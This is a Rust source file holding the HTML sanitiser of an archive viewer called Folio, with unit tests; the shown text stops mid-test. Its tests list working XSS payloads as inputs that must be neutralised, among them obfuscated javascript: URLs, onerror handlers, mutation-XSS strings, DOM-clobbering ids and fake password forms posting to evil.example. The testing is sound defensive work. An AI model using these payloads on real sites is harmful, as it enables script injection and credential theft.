//! The one HTML sanitising policy of Folio.
//!
//! Every byte of post HTML that reaches the DOM goes through [`Sanitizer::clean`],
//! and a page can only insert it as a [`SanitizedHtml`], which nothing else
//! can make:
//! the viewer runs it in the browser on every body (it cannot trust where a
//! bundle came from) and the CLI runs it at build time so that a bundle is safe
//! by construction. The policy is a single [`ammonia::Builder`] configured in
//! [`Sanitizer::new`]; nothing else in Folio decides what HTML is allowed.
//!
//! What the policy does, beyond ammonia's defaults:
//!
//! * keeps ordinary article markup (paragraphs, headings, lists, tables,
//!   figures, images, `pre`/`code`, blockquotes, links) and a short allow-list
//!   of benign classes such as `em_media` and `language-*`;
//! * allows no form control at all (`form`, `input`, `button`, `select`,
//!   `textarea`, ...): a post must not be able to draw a login field inside
//!   the archive's origin. Markdown task lists arrive as text (the CLI turns
//!   their checkboxes into `☑`/`☐` before sanitising);
//! * drops `style`, every event handler, and every URL whose scheme is not
//!   `http`, `https` or `mailto`, including obfuscated ones, in `href`, `src`,
//!   and also in `cite` and `srcset`, which ammonia does not check by default;
//! * rewrites protocol-relative `//host/path` URLs to `https://host/path`, and
//!   resolves other relative URLs against the site's base URL (or drops them
//!   when the site has none, since they cannot point anywhere useful);
//! * adds `rel="noopener noreferrer nofollow"` and `target="_blank"` to links,
//!   `loading="lazy"` and `referrerpolicy="no-referrer"` to images, and
//!   `tabindex="0"` to code blocks (they scroll sideways: keyboard users
//!   must be able to reach them);
//! * prefixes every `id` with [`ID_PREFIX`] so a post cannot clobber the
//!   viewer's own DOM ids or globals, and rewrites in-page `#fragment` links to
//!   match. Links into the viewer itself (`#/post/...`) are left alone, and
//!   links to another post of the archive by its original permalink become
//!   such links ([`Sanitizer::with_post_links`]).
//!
//! Links that start with `#` carry `target="_blank"` too (ammonia sets
//! attributes per tag, not per value); the viewer's article body intercepts
//! clicks on them and navigates in place, see `docs/bundle-format.md`.

use std::borrow::Cow;
use std::collections::HashSet;
use std::rc::Rc;
use std::sync::Arc;

use ammonia::{Builder, UrlRelative};
use url::Url;

use crate::post_links::PostLinks;

/// Prefix added to every `id` (and to in-page `#fragment` links) in post HTML.
pub const ID_PREFIX: &str = "user-content-";

/// The value of `rel` on every link in post HTML.
pub const LINK_REL: &str = "noopener noreferrer nofollow";

/// The attributes forced onto elements, by the start of the element's tag,
/// in the order Folio writes them: images load lazily and send no referrer;
/// code blocks, which scroll sideways, take keyboard focus so that they can
/// be scrolled without a mouse.
const FORCED: [(&str, &[&str]); 2] = [
    ("<img ", &[r#" loading="lazy""#, r#" referrerpolicy="no-referrer""#]),
    ("<pre ", &[r#" tabindex="0""#]),
];

/// URL schemes a post may link to or load from.
const ALLOWED_SCHEMES: [&str; 3] = ["http", "https", "mailto"];

/// Classes kept verbatim. Anything else is dropped so that a post cannot pick
/// up (or fake) the viewer's own styles.
const ALLOWED_CLASSES: [&str; 14] = [
    "em_media",
    "footnote-definition",
    "footnote-definition-label",
    "footnote-reference",
    "footnotes",
    "task-list-item",
    "task-list-item-checkbox",
    "contains-task-list",
    "highlight",
    "highlighter-rouge",
    "caption",
    "note",
    "tip",
    "warning",
];

/// Class prefixes kept when the rest is a plain identifier: code highlighting
/// hints such as `language-rust` or `lang-js`.
const ALLOWED_CLASS_PREFIXES: [&str; 2] = ["language-", "lang-"];

/// Tags from ammonia's defaults that would add landmarks or image maps to the
/// page: post content is only ever an `article`, so these are unwrapped.
const REMOVED_DEFAULT_TAGS: [&str; 6] = ["nav", "header", "footer", "hgroup", "map", "area"];

/// The sanitising policy, built once and reused for every post of a bundle.
///
/// # Examples
///
/// ```
/// use folio_core::Sanitizer;
///
/// let sanitizer = Sanitizer::new(None);
/// let html = sanitizer.clean(r#"<p class="em_media" onclick="x()">来源：<a href="//example.com/a">link</a></p>"#);
/// assert_eq!(
///     html,
///     r#"<p class="em_media">来源：<a href="https://example.com/a" target="_blank" rel="noopener noreferrer nofollow">link</a></p>"#
/// );
/// ```
pub struct Sanitizer {
    builder: Builder<'static>,
    base: Option<Url>,
}

impl std::fmt::Debug for Sanitizer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Sanitizer").finish_non_exhaustive()
    }
}

impl Sanitizer {
    /// Builds the policy. `base_url` is the site's public URL; relative links
    /// and images in posts are resolved against it. Only `http` and `https`
    /// base URLs are used; anything else is ignored.
    pub fn new(base_url: Option<&str>) -> Self {
        Sanitizer::with_post_links(base_url, PostLinks::default())
    }

    /// The policy for an archive whose posts link to one another by their
    /// original permalinks: a link to one of `posts` becomes a link to the
    /// post itself (`#/post/<id>`), see [`PostLinks`]. The CLI knows every
    /// permalink; the viewer, which only ever sees bodies the CLI already
    /// rewrote, uses [`Sanitizer::new`].
    pub fn with_post_links(base_url: Option<&str>, posts: PostLinks) -> Self {
        let base = base_url
            .and_then(|b| Url::parse(b).ok())
            .filter(|u| matches!(u.scheme(), "http" | "https"))
            .map(|mut u| {
                // "https://site/blog" must resolve "x" to ".../blog/x".
                if !u.path().ends_with('/') {
                    let path = format!("{}/", u.path());
                    u.set_path(&path);
                }
                u
            });

        let filter_base = base.clone();
        let mut builder = Builder::default();
        builder
            .rm_tags(REMOVED_DEFAULT_TAGS)
            .add_tags(["picture", "source"])
            .add_generic_attributes(["id", "class", "dir"])
            .add_tag_attributes("img", ["srcset", "sizes"])
            .add_tag_attributes("source", ["srcset", "sizes", "media", "type"])
            .add_tag_attributes("time", ["datetime"])
            .set_tag_attribute_value("a", "target", "_blank")
            .set_tag_attribute_value("img", "loading", "lazy")
            .set_tag_attribute_value("img", "referrerpolicy", "no-referrer")
            .set_tag_attribute_value("pre", "tabindex", "0")
            .url_schemes(ALLOWED_SCHEMES.into_iter().collect::<HashSet<_>>())
            // Relative URLs that survive `filter_attribute` are only fragments
            // and viewer routes; everything else was made absolute there.
            .url_relative(UrlRelative::PassThrough)
            .link_rel(Some(LINK_REL))
            .id_prefix(Some(ID_PREFIX))
            .strip_comments(true)
            .attribute_filter(move |element, attribute, value| {
                if element == "a" && attribute == "href" {
                    if let Some(route) =
                        posts.route(filter_base.as_ref(), value.trim_matches(|c: char| c <= ' '))
                    {
                        return Some(Cow::Owned(route));
                    }
                }
                filter_attribute(filter_base.as_ref(), element, attribute, value)
            });
        Sanitizer { builder, base }
    }

    /// Sanitises one post body for display: the only way to make a
    /// [`SanitizedHtml`], the only thing the viewer inserts as HTML.
    pub fn clean_html(&self, html: &str) -> SanitizedHtml {
        SanitizedHtml(self.clean(html).into())
    }

    /// Sanitises one post body and returns HTML that is safe to insert.
    ///
    /// The output is deterministic: the same input gives the same bytes in
    /// every process, which the CLI relies on for reproducible bundles.
    pub fn clean(&self, html: &str) -> String {
        let mut html = self.builder.clean(html).to_string();
        for (start, forced) in FORCED {
            if html.contains(start) {
                html = canonical_forced_attributes(&html, start, forced);
            }
        }
        html
    }
}

/// HTML that went through [`Sanitizer::clean_html`]. It has no other
/// constructor, so raw bundle HTML cannot reach the DOM by mistake; clones
/// share one buffer, which threads may share too (a build keeps rendered
/// bodies for its next run).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SanitizedHtml(Arc<str>);

impl SanitizedHtml {
    /// HTML that [`Sanitizer::clean`] wrote in another module: the viewer runs
    /// the policy in a wasm module of its own (so that pages that show no
    /// article body never download it), which hands its output back as text.
    /// Nothing else may call this: the viewer's `sanitizer.rs` is its one
    /// caller, and the hostile-post browser tests hold it to the policy.
    pub fn from_policy_output(html: String) -> Self {
        SanitizedHtml(html.into())
    }

    /// The HTML text.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The HTML as a buffer of its own, for a DOM layer that keeps its own
    /// handle (Yew's `AttrValue` holds an `Rc`).
    pub fn shared(&self) -> Rc<str> {
        Rc::from(&*self.0)
    }

    /// The same HTML for a page of a static site: links into the viewer
    /// (`#/post/<id>`, the form bundles keep links between posts in) become
    /// the pages' real paths under `prefix` (`../../post/<id>/`), and they and
    /// in-page `#fragment` links open in the same tab.
    ///
    /// The edit is exact on the policy's own output, as in
    /// `canonical_forced_attributes`: a tag ends at the first `>` and a value at
    /// the next `"`, because the serialiser escapes both inside values. Only
    /// `href` values and `target` attributes of `<a>` tags change, into
    /// percent-encoded paths, so the result is as safe as the input.
    ///
    /// ```
    /// let s = folio_core::Sanitizer::new(None);
    /// let html = s.clean_html(r##"<a href="#/post/b">B</a> <a href="https://x.example/">X</a>"##);
    /// assert_eq!(html.with_site_links("../../").as_str(),
    ///   r#"<a href="../../post/b/" rel="noopener noreferrer nofollow">B</a> <a href="https://x.example/" target="_blank" rel="noopener noreferrer nofollow">X</a>"#);
    /// ```
    pub fn with_site_links(&self, prefix: &str) -> SanitizedHtml {
        if !self.0.contains("href=\"#") {
            return self.clone();
        }
        let mut out = String::with_capacity(self.0.len());
        let mut rest: &str = &self.0;
        while let Some(start) = rest.find("<a ") {
            let Some(len) = rest[start..].find('>') else { break };
            out.push_str(&rest[..start]);
            let tag = &rest[start..start + len];
            out.push_str(&site_link_tag(tag, prefix).unwrap_or_else(|| tag.to_owned()));
            rest = &rest[start + len..];
        }
        out.push_str(rest);
        SanitizedHtml(out.into())
    }
}

/// One `<a ...` tag (without its `>`) for a static page, or `None` when it
/// stays as it is.
fn site_link_tag(tag: &str, prefix: &str) -> Option<String> {
    let value_start = tag.find(" href=\"#")? + " href=\"".len();
    let value_len = tag[value_start..].find('"')?;
    let value = &tag[value_start..value_start + value_len];
    let href = match value.strip_prefix("#/") {
        Some(route) => {
            let (path, query) = route.split_once('?').map_or((route, ""), |(p, q)| (p, q));
            let location = crate::Location::from_route(&format!("/{path}"));
            let site_path = location.site_path();
            let query = if query.is_empty() { String::new() } else { format!("?{query}") };
            format!("{prefix}{site_path}{query}")
        }
        None => value.to_owned(),
    };
    let mut edited = format!("{}{href}{}", &tag[..value_start], &tag[value_start + value_len..]);
    edited = edited.replacen(" target=\"_blank\"", "", 1);
    Some(edited)
}

impl Sanitizer {
    /// Checks a URL that the viewer puts in an `href` itself, such as a post's
    /// `source_url`, with the same rules as links in post bodies. Returns the
    /// URL to use, or `None` when it is not a safe `http(s)`/`mailto` link.
    ///
    /// ```
    /// let s = folio_core::Sanitizer::new(None);
    /// assert_eq!(s.external_link("//finews.example/a").as_deref(), Some("https://finews.example/a"));
    /// assert_eq!(s.external_link(" javascript:alert(1)"), None);
    /// ```
    pub fn external_link(&self, url: &str) -> Option<String> {
        rewrite_url(self.base.as_ref(), url).filter(|u| !u.starts_with('#')).map(Cow::into_owned)
    }
}

/// Moves the `forced` attributes to the end of each tag that begins with
/// `start` (`<img `), in a fixed order.
///
/// ammonia keeps forced attributes in a randomly seeded `HashMap` and removes
/// filtered attributes with `swap_remove`, so the attributes of an element
/// come out in an order that can change from one process to the next. The
/// CLI must write byte-identical bundles, so the order is fixed here. The
/// edit is exact on ammonia's serialisation: `<` is escaped everywhere
/// outside tags, so `<img ` starts a tag; `>` is escaped in attribute values,
/// so the first `>` ends it; and `"` is escaped in values, so
/// ` loading="lazy"` is an attribute.
fn canonical_forced_attributes(html: &str, start_tag: &str, forced: &[&str]) -> String {
    let mut out = String::with_capacity(html.len());
    let mut rest = html;
    while let Some(start) = rest.find(start_tag) {
        let Some(len) = rest[start..].find('>') else { break };
        let (before, tag, after) = (&rest[..start], &rest[start..start + len], &rest[start + len..]);
        out.push_str(before);
        let mut tag = tag.to_owned();
        for attribute in forced {
            tag = tag.replacen(attribute, "", 1);
        }
        out.push_str(&tag);
        out.extend(forced.iter().copied());
        rest = after;
    }
    out.push_str(rest);
    out
}

/// Rewrites or drops one attribute that survived ammonia's allow-list.
/// Returning `None` removes the attribute.
fn filter_attribute<'v>(
    base: Option<&Url>,
    element: &str,
    attribute: &str,
    value: &'v str,
) -> Option<Cow<'v, str>> {
    match attribute {
        "href" | "src" | "cite" => rewrite_url(base, value),
        "srcset" => rewrite_srcset(base, value).map(Cow::Owned),
        "class" => filter_classes(value),
        // ammonia has already prefixed ids by the time the filter runs.
        "id" if value.len() == ID_PREFIX.len() => None,
        "target" if element != "a" => None,
        _ => Some(Cow::Borrowed(value)),
    }
}

/// Returns the URL to keep, rewritten where needed, or `None` to drop it.
fn rewrite_url<'v>(base: Option<&Url>, value: &'v str) -> Option<Cow<'v, str>> {
    // Browsers strip leading and trailing C0 controls and spaces from URLs.
    let trimmed = value.trim_matches(|c: char| c <= ' ');
    if trimmed.is_empty() {
        return None;
    }
    if let Some(fragment) = trimmed.strip_prefix('#') {
        if fragment.is_empty() || fragment.starts_with('/') || fragment.starts_with(ID_PREFIX) {
            return Some(Cow::Borrowed(trimmed));
        }
        return Some(Cow::Owned(format!("#{ID_PREFIX}{fragment}")));
    }
    if trimmed.starts_with("//") {
        let absolute = format!("https:{trimmed}");
        return Url::parse(&absolute).ok().filter(|u| u.host().is_some()).map(|_| Cow::Owned(absolute));
    }
    match Url::parse(trimmed) {
        Ok(url) if ALLOWED_SCHEMES.contains(&url.scheme()) => Some(Cow::Borrowed(trimmed)),
        Ok(_) => None,
        Err(url::ParseError::RelativeUrlWithoutBase) => {
            let joined = base?.join(trimmed).ok()?;
            matches!(joined.scheme(), "http" | "https").then(|| Cow::Owned(joined.into()))
        }
        Err(_) => None,
    }
}

/// Checks and rewrites every candidate of a `srcset`. One bad candidate drops
/// the whole attribute: a half-trusted `srcset` is not worth keeping.
fn rewrite_srcset(base: Option<&Url>, value: &str) -> Option<String> {
    let mut out = Vec::new();
    for candidate in value.split(',') {
        let mut parts = candidate.split_ascii_whitespace();
        let Some(url) = parts.next() else { continue };
        let url = rewrite_url(base, url)?;
        if url.starts_with('#') {
            return None;
        }
        let descriptors: Vec<&str> = parts.collect();
        if !descriptors.iter().all(|d| is_srcset_descriptor(d)) {
            return None;
        }
        let mut rebuilt = url.into_owned();
        for d in descriptors {
            rebuilt.push(' ');
            rebuilt.push_str(d);
        }
        out.push(rebuilt);
    }
    (!out.is_empty()).then(|| out.join(", "))
}

/// `2x`, `1.5x`, `640w` or `480h`.
fn is_srcset_descriptor(d: &str) -> bool {
    let Some(number) = d.strip_suffix(['w', 'x', 'h']) else {
        return false;
    };
    !number.is_empty()
        && number.chars().all(|c| c.is_ascii_digit() || c == '.')
        && number.chars().filter(|&c| c == '.').count() <= 1
}

fn filter_classes(value: &str) -> Option<Cow<'_, str>> {
    let kept: Vec<&str> = value.split_ascii_whitespace().filter(|c| is_allowed_class(c)).collect();
    if kept.is_empty() {
        None
    } else {
        Some(Cow::Owned(kept.join(" ")))
    }
}

fn is_allowed_class(class: &str) -> bool {
    ALLOWED_CLASSES.contains(&class)
        || ALLOWED_CLASS_PREFIXES.iter().any(|prefix| {
            class.strip_prefix(prefix).is_some_and(|rest| {
                !rest.is_empty()
                    && rest.len() <= 32
                    && rest.chars().all(|c| c.is_ascii_alphanumeric() || "+#_.-".contains(c))
            })
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(html: &str) -> String {
        Sanitizer::new(Some("https://blog.example/archive")).clean(html)
    }

    /// Benign article markup and the exact HTML the policy must produce.
    #[test]
    fn benign_inputs_are_kept_or_normalised() {
        let cases: &[(&str, &str, &str)] = &[
            ("paragraph with em_media class", r#"<p class="em_media">（文章来源：华夏时报）</p>"#, r#"<p class="em_media">（文章来源：华夏时报）</p>"#),
            ("strong and em", "<p><strong>强</strong> and <em>em</em></p>", "<p><strong>强</strong> and <em>em</em></p>"),
            ("headings", "<h2>二</h2><h3>three</h3>", "<h2>二</h2><h3>three</h3>"),
            ("lists", "<ol start=\"3\"><li>a</li></ol><ul><li>b</li></ul>", "<ol start=\"3\"><li>a</li></ol><ul><li>b</li></ul>"),
            ("table", "<table><thead><tr><th scope=\"col\">h</th></tr></thead><tbody><tr><td colspan=\"2\">d</td></tr></tbody></table>", "<table><thead><tr><th scope=\"col\">h</th></tr></thead><tbody><tr><td colspan=\"2\">d</td></tr></tbody></table>"),
            ("figure and image", r#"<figure><img src="https://img.example/a.png" alt="图"><figcaption>说明</figcaption></figure>"#, r#"<figure><img src="https://img.example/a.png" alt="图" loading="lazy" referrerpolicy="no-referrer"><figcaption>说明</figcaption></figure>"#),
            ("code block with language class", r#"<pre><code class="language-rust">fn main() {}</code></pre>"#, r#"<pre tabindex="0"><code class="language-rust">fn main() {}</code></pre>"#),
            ("code block: its own tabindex replaced, attributes in a fixed order", r#"<pre tabindex="-1" class="highlight" id="c">x</pre>"#, r#"<pre class="highlight" id="user-content-c" tabindex="0">x</pre>"#),
            ("blockquote with https cite", r#"<blockquote cite="https://src.example/q">q</blockquote>"#, r#"<blockquote cite="https://src.example/q">q</blockquote>"#),
            ("external link", r#"<a href="https://jekyllrb.com/">J</a>"#, r#"<a href="https://jekyllrb.com/" target="_blank" rel="noopener noreferrer nofollow">J</a>"#),
            ("mailto link", r#"<a href="mailto:a@b.example">mail</a>"#, r#"<a href="mailto:a@b.example" target="_blank" rel="noopener noreferrer nofollow">mail</a>"#),
            ("protocol-relative link becomes https", r#"<a href="//finews.withounder.com/category/huaxiashibao.html">返回</a>"#, r#"<a href="https://finews.withounder.com/category/huaxiashibao.html" target="_blank" rel="noopener noreferrer nofollow">返回</a>"#),
            ("protocol-relative image becomes https", r#"<img src="//img.example/x.jpg">"#, r#"<img src="https://img.example/x.jpg" loading="lazy" referrerpolicy="no-referrer">"#),
            ("root-relative link resolves against the base URL", r#"<a href="/docs/">docs</a>"#, r#"<a href="https://blog.example/docs/" target="_blank" rel="noopener noreferrer nofollow">docs</a>"#),
            ("path-relative image resolves under the base path", r#"<img src="img/a.png" alt="">"#, r#"<img src="https://blog.example/archive/img/a.png" alt="" loading="lazy" referrerpolicy="no-referrer">"#),
            ("ids are prefixed and in-page anchors follow", r##"<h2 id="intro">I</h2><a href="#intro">up</a>"##, r##"<h2 id="user-content-intro">I</h2><a href="#user-content-intro" target="_blank" rel="noopener noreferrer nofollow">up</a>"##),
            ("viewer routes are left alone", r##"<a href="#/post/hello">h</a>"##, r##"<a href="#/post/hello" target="_blank" rel="noopener noreferrer nofollow">h</a>"##),
            ("srcset with protocol-relative candidate", r#"<img src="https://a.example/1.png" srcset="//a.example/2.png 2x, https://a.example/3.png 640w">"#, r#"<img src="https://a.example/1.png" srcset="https://a.example/2.png 2x, https://a.example/3.png 640w" loading="lazy" referrerpolicy="no-referrer">"#),
            ("task list item marked as text", r#"<ul class="contains-task-list"><li class="task-list-item"><span class="task-list-item-checkbox">☑</span> done</li></ul>"#, r#"<ul class="contains-task-list"><li class="task-list-item"><span class="task-list-item-checkbox">☑</span> done</li></ul>"#),
            ("unknown classes are dropped, known kept", r#"<p class="em_media site-header evil">x</p>"#, r#"<p class="em_media">x</p>"#),
            ("unicode hostname survives", r#"<a href="https://例子.测试/路径">u</a>"#, r#"<a href="https://例子.测试/路径" target="_blank" rel="noopener noreferrer nofollow">u</a>"#),
        ];
        for (name, input, expected) in cases {
            assert_eq!(clean(input), *expected, "case: {name}");
        }
    }

    /// Hostile inputs and a substring that must not survive sanitising.
    #[test]
    fn attack_inputs_are_neutralised() {
        let cases: &[(&str, &str, &[&str])] = &[
            ("script element", "<script>window.__pwned=1</script><p>ok</p>", &["<script", "__pwned"]),
            ("script in svg", "<svg><script>window.__pwned=1</script></svg>", &["<script", "<svg"]),
            ("img onerror", r#"<img src="x" onerror="window.__pwned=1">"#, &["onerror"]),
            ("body onload", r#"<body onload="window.__pwned=1"><p>x</p></body>"#, &["onload"]),
            ("uppercase event handler", r#"<P ONMOUSEOVER="window.__pwned=1">x</P>"#, &["onmouseover"]),
            ("javascript href", r#"<a href="javascript:window.__pwned=1">x</a>"#, &["javascript"]),
            ("mixed-case javascript", r#"<a href="JaVaScRiPt:alert(1)">x</a>"#, &["javascript", "alert"]),
            (
                "entity-encoded javascript",
                r#"<a href="&#106;avascript:alert(1)">x</a>"#,
                &["javascript", "alert"],
            ),
            (
                "hex-entity javascript",
                r#"<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">x</a>"#,
                &["javascript", "alert"],
            ),
            ("tab inside scheme", "<a href=\"java\tscript:alert(1)\">x</a>", &["script:", "alert"]),
            ("newline inside scheme", "<a href=\"java&#10;script:alert(1)\">x</a>", &["script:", "alert"]),
            (
                "leading control chars",
                "<a href=\"\x01\x02 javascript:alert(1)\">x</a>",
                &["javascript", "alert"],
            ),
            ("entity colon", r#"<a href="javascript&colon;alert(1)">x</a>"#, &["javascript", "alert"]),
            ("vbscript", r#"<a href="vbscript:msgbox(1)">x</a>"#, &["vbscript"]),
            (
                "data html link",
                r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#,
                &["data:"],
            ),
            ("data image", r#"<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">"#, &["data:"]),
            (
                "javascript in cite",
                r#"<blockquote cite="javascript:alert(1)">q</blockquote>"#,
                &["javascript", "cite="],
            ),
            (
                "javascript in srcset",
                r#"<img src="https://a.example/a.png" srcset="javascript:alert(1) 2x">"#,
                &["javascript", "srcset"],
            ),
            (
                "javascript hidden in second srcset candidate",
                r#"<img srcset="https://a.example/a.png 1x, javascript:alert(1) 2x">"#,
                &["javascript", "srcset"],
            ),
            (
                "style attribute",
                r#"<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>"#,
                &["style", "position"],
            ),
            ("style element", "<style>body{display:none}</style><p>x</p>", &["<style", "display"]),
            ("iframe", r#"<iframe src="https://evil.example/"></iframe>"#, &["<iframe"]),
            (
                "object and embed",
                r#"<object data="x.swf"></object><embed src="x.swf">"#,
                &["<object", "<embed"],
            ),
            (
                "form and formaction",
                r#"<form action="https://evil.example"><button formaction="javascript:alert(1)">b</button></form>"#,
                &["<form", "<button", "formaction"],
            ),
            (
                "meta refresh",
                r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
                &["<meta", "refresh"],
            ),
            ("base href hijack", r#"<base href="https://evil.example/">"#, &["<base"]),
            ("link stylesheet", r#"<link rel="stylesheet" href="https://evil.example/x.css">"#, &["<link"]),
            (
                "svg animate to javascript",
                r##"<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>"##,
                &["javascript", "<svg", "animate"],
            ),
            (
                "svg use xlink",
                r##"<svg><use xlink:href="data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x"/></svg>"##,
                &["<use", "xlink", "<script"],
            ),
            (
                "mathml href",
                r#"<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>"#,
                &["javascript", "<math"],
            ),
            (
                "mathml namespace confusion",
                r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"#,
                &["onerror", "<style"],
            ),
            (
                "noscript mutation",
                r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#,
                &["onerror"],
            ),
            ("template", r#"<template><img src=x onerror=alert(1)></template>"#, &["onerror", "<template"]),
            (
                "dom clobbering by id",
                r#"<img id="folio-root"><form id="location"></form>"#,
                &["id=\"folio-root\"", "id=\"location\""],
            ),
            (
                "dom clobbering by name",
                r#"<a name="bundle" href="https://x.example">x</a><img name="getElementById">"#,
                &["name="],
            ),
            ("id prefix cannot be faked empty", r#"<p id="">x</p>"#, &["id=\"user-content-\""]),
            (
                "protocol-relative javascript lookalike",
                r#"<a href="//javascript:alert(1)">x</a>"#,
                &["alert"],
            ),
            ("target on non-links", r#"<img src="https://a.example/a.png" target="_top">"#, &["target"]),
            (
                "comments with conditional markup",
                "<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>",
                &["<!--", "<script"],
            ),
            ("ping tracking", r#"<a href="https://a.example" ping="https://track.example">x</a>"#, &["ping"]),
        ];
        for (name, input, forbidden) in cases {
            let output = clean(input).to_ascii_lowercase();
            for needle in *forbidden {
                assert!(
                    !output.contains(&needle.to_ascii_lowercase()),
                    "case {name}: output still contains {needle:?}: {output}"
                );
            }
        }
    }

    /// Regression: `<input>` was allowed for task lists, with `type` cut down
    /// to `checkbox`, so a password field or a bare input came out as a
    /// disabled text box. No form control may survive, in any form.
    #[test]
    fn no_form_control_survives() {
        let controls = [
            r#"<form action="https://evil.example/login"><input type="text" name="user"><input type="password" name="pass"><button>Sign in</button></form>"#,
            r#"<input type="password" placeholder="Archive password">"#,
            r#"<input>"#,
            r#"<input type="checkbox" checked>"#,
            r#"<input type="image" src="https://evil.example/x.png" formaction="https://evil.example/">"#,
            r#"<button formaction="javascript:alert(1)" type="submit">go</button>"#,
            r#"<form id="location"><input name="href" value="https://evil.example"></form>"#,
            r#"<form name="forms"><input name="length"></form>"#,
            r#"<select name="x"><option>1</option></select><textarea>t</textarea>"#,
            r#"<fieldset><legend>l</legend><label for="a">x</label><output>o</output></fieldset>"#,
            r#"<isindex prompt="Password"><keygen name="k"><datalist id="d"></datalist>"#,
            r#"<math><mtext><input type="password"></mtext></math>"#,
            r#"<svg><foreignObject><input type="password"></foreignObject></svg>"#,
        ];
        for input in controls {
            let output = clean(input).to_ascii_lowercase();
            for tag in [
                "<form",
                "<input",
                "<button",
                "<select",
                "<option",
                "<textarea",
                "<fieldset",
                "<label",
                "<output",
                "<isindex",
                "<keygen",
                "<datalist",
            ] {
                assert!(!output.contains(tag), "{input}: {tag} survives in {output}");
            }
            for attribute in ["formaction", "name=", "value=", "placeholder"] {
                assert!(!output.contains(attribute), "{input}: {attribute} survives in {output}");
            }
        }
    }

    #[test]
    fn links_into_the_viewer_become_site_paths() {
        let s = Sanitizer::new(None);
        let html = s.clean_html(concat!(
            r##"<p><a href="#/post/%E6%97%A0%E9%94%A1">无锡</a> <a href="#/tag/a%2Fb">a/b</a> "##,
            r##"<a href="#/tags?all=a,b&amp;page=2">ab</a> <a href="#/nope">x</a> <a href="#intro">up</a> "##,
            r##"<a href="mailto:a@b.example">m</a> <a title="#/post/x" href="https://a.example/">t</a></p>"##,
        ));
        let out = html.with_site_links("../");
        assert_eq!(
            out.as_str(),
            concat!(
                r#"<p><a href="../post/%E6%97%A0%E9%94%A1/" rel="noopener noreferrer nofollow">无锡</a> "#,
                r#"<a href="../tag/a%252Fb/" rel="noopener noreferrer nofollow">a/b</a> "#,
                r#"<a href="../tags/?all=a,b&amp;page=2" rel="noopener noreferrer nofollow">ab</a> "#,
                // A route to no page leads to the not-found page.
                r#"<a href="../404.html" rel="noopener noreferrer nofollow">x</a> "#,
                r##"<a href="#user-content-intro" rel="noopener noreferrer nofollow">up</a> "##,
                r#"<a href="mailto:a@b.example" target="_blank" rel="noopener noreferrer nofollow">m</a> "#,
                r##"<a title="#/post/x" href="https://a.example/" target="_blank" rel="noopener noreferrer nofollow">t</a></p>"##,
            )
        );
    }

    #[test]
    fn sanitized_html_is_the_policy_output() {
        let s = Sanitizer::new(None);
        let html = r#"<p onclick="x()">a<script>b</script></p>"#;
        assert_eq!(s.clean_html(html).as_str(), s.clean(html));
        assert_eq!(&*s.clean_html(html).shared(), "<p>a</p>");
    }

    #[test]
    fn relative_urls_are_dropped_without_a_base() {
        let s = Sanitizer::new(None);
        assert_eq!(
            s.clean(r#"<a href="/docs/">d</a><img src="a.png" alt="a">"#),
            r#"<a rel="noopener noreferrer nofollow" target="_blank">d</a><img alt="a" loading="lazy" referrerpolicy="no-referrer">"#
        );
    }

    #[test]
    fn output_is_identical_across_sanitizer_instances() {
        // The first image loses two attributes to the filter, which reorders
        // what is left in ammonia's own output.
        let input = r#"<p><img src="https://a.example/1.png" alt="one"><img src="/x.png" class="evil" alt="two" title="t"></p>"#;
        let expected = r#"<p><img src="https://a.example/1.png" alt="one" loading="lazy" referrerpolicy="no-referrer"><img alt="two" title="t" loading="lazy" referrerpolicy="no-referrer"></p>"#;
        // Each instance seeds its hash maps afresh; 32 of them would almost
        // surely hit both attribute orders without the canonicalising step.
        for _ in 0..32 {
            assert_eq!(Sanitizer::new(None).clean(input), expected);
        }
    }

    #[test]
    fn forced_attribute_text_inside_values_is_not_touched() {
        let input = r#"<img title='<img  loading="lazy">' alt=">"><p>&lt;img loading="lazy"&gt;</p>"#;
        let out = Sanitizer::new(None).clean(input);
        assert_eq!(
            out,
            r#"<img title="&lt;img  loading=&quot;lazy&quot;&gt;" alt="&gt;" loading="lazy" referrerpolicy="no-referrer"><p>&lt;img loading="lazy"&gt;</p>"#
        );
    }

    #[test]
    fn a_non_http_base_url_is_ignored() {
        let s = Sanitizer::new(Some("javascript:alert(1)//"));
        assert!(!s.clean(r#"<a href="x">d</a>"#).contains("javascript"));
    }

    #[test]
    fn external_links_follow_the_same_rules() {
        let s = Sanitizer::new(Some("https://blog.example/"));
        let cases: &[(&str, Option<&str>)] = &[
            (
                "http://finews.zning.xyz/html_News/NewsShare.html?infoCode=NW1",
                Some("http://finews.zning.xyz/html_News/NewsShare.html?infoCode=NW1"),
            ),
            ("//finews.withounder.com/", Some("https://finews.withounder.com/")),
            ("/2022/01/post.html", Some("https://blog.example/2022/01/post.html")),
            ("java\nscript:alert(1)", None),
            ("JAVASCRIPT:alert(1)", None),
            ("data:text/html,x", None),
            ("#fragment", None),
            ("", None),
        ];
        for (input, expected) in cases {
            assert_eq!(s.external_link(input).as_deref(), *expected, "{input:?}");
        }
    }

    #[test]
    fn srcset_descriptors_are_validated() {
        assert!(is_srcset_descriptor("2x"));
        assert!(is_srcset_descriptor("1.5x"));
        assert!(is_srcset_descriptor("640w"));
        assert!(!is_srcset_descriptor("x"));
        assert!(!is_srcset_descriptor("1.2.3x"));
        assert!(!is_srcset_descriptor("onerror"));
    }

    #[test]
    fn the_seed_post_body_keeps_its_media_class_and_links() {
        let body = r#"<p>2021年是“十四五”开局之年。</p><p class="em_media">（文章来源：华夏时报）</p>
<p><a href="//finews.withounder.com/">返回首页</a></p>"#;
        let out = clean(body);
